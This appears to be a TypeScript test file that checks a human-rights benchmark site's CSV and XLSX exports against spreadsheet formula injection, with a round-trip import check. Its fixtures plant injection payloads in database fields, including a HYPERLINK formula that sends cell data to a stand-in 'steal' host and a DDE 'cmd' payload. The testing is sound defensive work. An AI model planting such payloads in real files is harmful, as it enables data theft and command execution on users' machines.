// Spreadsheet formula injection (OWASP "CSV injection"): text that reviewers, editors and statement
// authors write reaches the exports, and a spreadsheet opening a CSV runs a cell that begins with
// = + - @, a tab or a carriage return (or their full-width forms) as a formula. Every such text is
// planted here in a published score, its benchmark, statement, people, laws, round, track and
// category; then no CSV cell may begin like a formula, each must still read as its text, the XLSX
// files must hold them as plain strings, and a re-import of the CSV must give the same text back.
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { beforeAll, describe, expect, it, vi } from "vitest";
import type { Db } from "@/db/client";

vi.hoisted(() => {
  process.env.DATABASE_PATH = `${process.env.TMPDIR ?? "/tmp"}/formula-injection-test-${process.pid}-${Date.now()}.db`;
});

// What a spreadsheet may run: OWASP's list and the full-width forms (written out here on purpose,
// independently of the export's own code).
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

const HOSTILE = {
  rationale: '=HYPERLINK("http://example.invalid/steal?d="&A1,"Open the evidence")',
  tabbedRationale: "\t=1+1 is how the reviewer's note began, after a tab",
  returnRationale: "\r=1+1 is how the reviewer's note began, after a carriage return",
  quotedRationale: "'=this note itself begins with a quote and an equals sign",
  dashRationale: "- released on bail, a list item as a reviewer might type it",
  evidenceTitle: "+SUM(1,1) evidence title",
  benchmarkTitle: "-2+3+cmd|' /C calc'!A0",
  statementTitle: "@SUM(1+1) statement title",
  personName: "\uFF1D1+1 person",
  lawName: "\uFF0B1 law",
  categoryName: "\uFF0DLegal reform",
  roundName: "+Human Rights Council, 37th session",
  trackName: "\uFF20UN Human Rights Council",
  retiredReason: "=1+2 died in custody",
};

const EDITOR = { id: "formula-test-editor" };
let db: Db;

async function exported(name: "scores.csv" | "benchmarks.csv" | "scores.xlsx" | "benchmarks.xlsx"): Promise<Buffer> {
  const routes = {
    "scores.csv": () => import("./scores.csv/route"),
    "benchmarks.csv": () => import("./benchmarks.csv/route"),
    "scores.xlsx": () => import("./scores.xlsx/route"),
    "benchmarks.xlsx": () => import("./benchmarks.xlsx/route"),
  };
  const response = await (await routes[name]()).GET(new Request(`http://localhost/exports/${name}`));
  expect(response.status).toBe(200);
  return Buffer.from(await response.arrayBuffer());
}

const cellsOf = (csv: Buffer) => (parse(csv.toString("utf8"), { bom: true }) as string[][]).slice(1).flat();

beforeAll(async () => {
  const { prepareDatabase } = await import("@/db/prepare");
  await prepareDatabase(process.env.DATABASE_PATH!);
  db = (await import("@/db/client")).getDb();
  const run = (sql: string, ...params: unknown[]) => db.$client.prepare(sql).run(...params);
  const now = Date.now();
  run("INSERT INTO users (id, email, name, role, is_demo, created_at, updated_at) VALUES (?, 'formula.editor@example.org', 'Fay Formula', 'editor', 0, ?, ?)", EDITOR.id, now, now);
  const publishedAssessment = (benchmark: string, round: string) =>
    `(SELECT ps.assessment_id FROM published_scores ps JOIN benchmarks b ON b.id = ps.benchmark_id JOIN rounds r ON r.id = ps.round_id WHERE b.slug = '${benchmark}' AND r.slug = '${round}')`;
  run(`UPDATE assessments SET rationale = ? WHERE id = ${publishedAssessment("release-gui-minhai", "hrc-37")}`, HOSTILE.rationale);
  run(`DELETE FROM evidence_links WHERE assessment_id = ${publishedAssessment("release-gui-minhai", "hrc-37")}`);
  run(`INSERT INTO evidence_links (assessment_id, url, title) VALUES (${publishedAssessment("release-gui-minhai", "hrc-37")}, 'https://example.org/evidence', ?)`, HOSTILE.evidenceTitle);
  // The public reads the evidence fixed at publication (published_evidence), so the planted link goes there too.
  const publishedPair = `(SELECT id FROM benchmarks WHERE slug = 'release-gui-minhai'), (SELECT id FROM rounds WHERE slug = 'hrc-37')`;
  run(`DELETE FROM published_evidence WHERE (benchmark_id, round_id) = (SELECT ${publishedPair})`);
  run(`INSERT INTO published_evidence (benchmark_id, round_id, position, url, title) VALUES (${publishedPair}, 1, 'https://example.org/evidence', ?)`, HOSTILE.evidenceTitle);
  run(`UPDATE assessments SET rationale = ? WHERE id = ${publishedAssessment("release-liu-xia", "hrc-37")}`, HOSTILE.tabbedRationale);
  run(`UPDATE assessments SET rationale = ? WHERE id = ${publishedAssessment("release-liu-xia", "upr-china-2018")}`, HOSTILE.returnRationale);
  run(`UPDATE assessments SET rationale = ? WHERE id = ${publishedAssessment("release-gui-minhai", "upr-china-2018")}`, HOSTILE.quotedRationale);
  run(`UPDATE assessments SET rationale = ? WHERE id = ${publishedAssessment("release-xu-zhiyong", "hrc-37")}`, HOSTILE.dashRationale);
  run("UPDATE benchmarks SET title = ? WHERE slug = 'release-xu-zhiyong'", HOSTILE.benchmarkTitle);
  run("UPDATE statements SET title = ? WHERE slug = 'hrw-2013-kunming-release'", HOSTILE.statementTitle);
  run("UPDATE subjects SET name = ? WHERE slug = 'gui-minhai'", HOSTILE.personName);
  run("UPDATE subjects SET name = ? WHERE slug = 'rsdl-article-73'", HOSTILE.lawName);
  run("UPDATE categories SET name = ? WHERE slug = 'legal-reform'", HOSTILE.categoryName);
  run("UPDATE rounds SET name = ? WHERE slug = 'hrc-37'", HOSTILE.roundName);
  run("UPDATE tracks SET name = ? WHERE slug = 'un-hrc'", HOSTILE.trackName);
  run("UPDATE benchmarks SET retired_reason = ? WHERE slug = 'liu-xiaobo-contact'", HOSTILE.retiredReason);
});

describe("the CSV exports", () => {
  it.each(["scores.csv", "benchmarks.csv"] as const)("%s: no cell begins as a formula", async (name) => {
    const cells = cellsOf(await exported(name));
    expect(cells.length).toBeGreaterThan(100);
    expect(cells.filter((cell) => FORMULA_START.test(cell))).toEqual([]);
  });

  it("each neutralised cell still reads as its text, after one single quote", async () => {
    const scores = cellsOf(await exported("scores.csv"));
    for (const text of [HOSTILE.rationale, HOSTILE.tabbedRationale, HOSTILE.returnRationale, HOSTILE.dashRationale, HOSTILE.benchmarkTitle, HOSTILE.roundName, HOSTILE.trackName, HOSTILE.categoryName]) {
      expect(scores, JSON.stringify(text)).toContain(`'${text}`);
    }
    expect(scores).toContain(`'${HOSTILE.evidenceTitle} <https://example.org/evidence>`);
    expect(scores.some((cell) => cell.startsWith(`'${HOSTILE.statementTitle}`))).toBe(true);
    expect(scores.some((cell) => cell.startsWith(`'${HOSTILE.personName} (`))).toBe(true);
    expect(scores.some((cell) => cell.startsWith(`'${HOSTILE.lawName}`))).toBe(true);
    // A text that already began with a quote gets one more, so that an import can take exactly one off.
    expect(scores).toContain(`'${HOSTILE.quotedRationale}`);
    const benchmarks = cellsOf(await exported("benchmarks.csv"));
    for (const text of [HOSTILE.benchmarkTitle, HOSTILE.retiredReason, HOSTILE.roundName, HOSTILE.categoryName]) expect(benchmarks).toContain(`'${text}`);
  });

  it("a re-import reads back every text as it was written, and adds nothing", async () => {
    const { readImportCsv } = await import("@/lib/import/csv");
    const { importCsv } = await import("@/db/import/import-csv");
    const scoresCsv = (await exported("scores.csv")).toString("utf8");
    const read = readImportCsv(scoresCsv);
    if (!read.ok || read.kind !== "scores") throw new Error(JSON.stringify(read.problems.slice(0, 3)));
    expect(read.problems).toEqual([]);
    const rationales = read.rows.map((r) => r.row.rationale);
    for (const text of [HOSTILE.rationale, HOSTILE.quotedRationale, HOSTILE.dashRationale, HOSTILE.tabbedRationale.trim(), HOSTILE.returnRationale.trim()]) expect(rationales).toContain(text);
    expect(read.rows.flatMap((r) => r.row.evidence.map((e) => e.title))).toContain(HOSTILE.evidenceTitle);
    expect(read.rows.map((r) => r.row.roundName)).toContain(HOSTILE.roundName);

    const scores = await importCsv(db, scoresCsv, EDITOR, "scores.csv");
    if (!scores.ok) throw new Error(JSON.stringify(scores.problems.slice(0, 3)));
    expect(scores.summary).toMatchObject({ assessmentsCreated: 0, alreadyPublished: read.rows.length });
    const benchmarksCsv = (await exported("benchmarks.csv")).toString("utf8");
    const benchmarks = await importCsv(db, benchmarksCsv, EDITOR, "benchmarks.csv");
    if (!benchmarks.ok) throw new Error(JSON.stringify(benchmarks.problems.slice(0, 3)));
    expect(benchmarks.summary).toMatchObject({ benchmarksCreated: [], benchmarksUnchanged: (parse(benchmarksCsv, { bom: true }) as string[][]).length - 1 });
  });
});

describe("the XLSX exports", () => {
  it.each(["scores.xlsx", "benchmarks.xlsx"] as const)("%s: every cell is a plain value, none a formula, and the text is as written", async (name) => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await exported(name)) as unknown as ArrayBuffer);
    const strings: string[] = [];
    workbook.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect([ExcelJS.ValueType.String, ExcelJS.ValueType.Number, ExcelJS.ValueType.Date, ExcelJS.ValueType.Boolean, ExcelJS.ValueType.Null]).toContain(cell.type);
          expect(cell.formula).toBeUndefined();
          if (cell.type === ExcelJS.ValueType.String) strings.push(cell.value as string);
        }),
      ),
    );
    // A spreadsheet shows a string cell as text whatever it begins with, so it keeps the text unchanged.
    expect(strings).toContain(name === "scores.xlsx" ? HOSTILE.rationale : HOSTILE.benchmarkTitle);
    expect(strings).toContain(HOSTILE.roundName);
  });
});
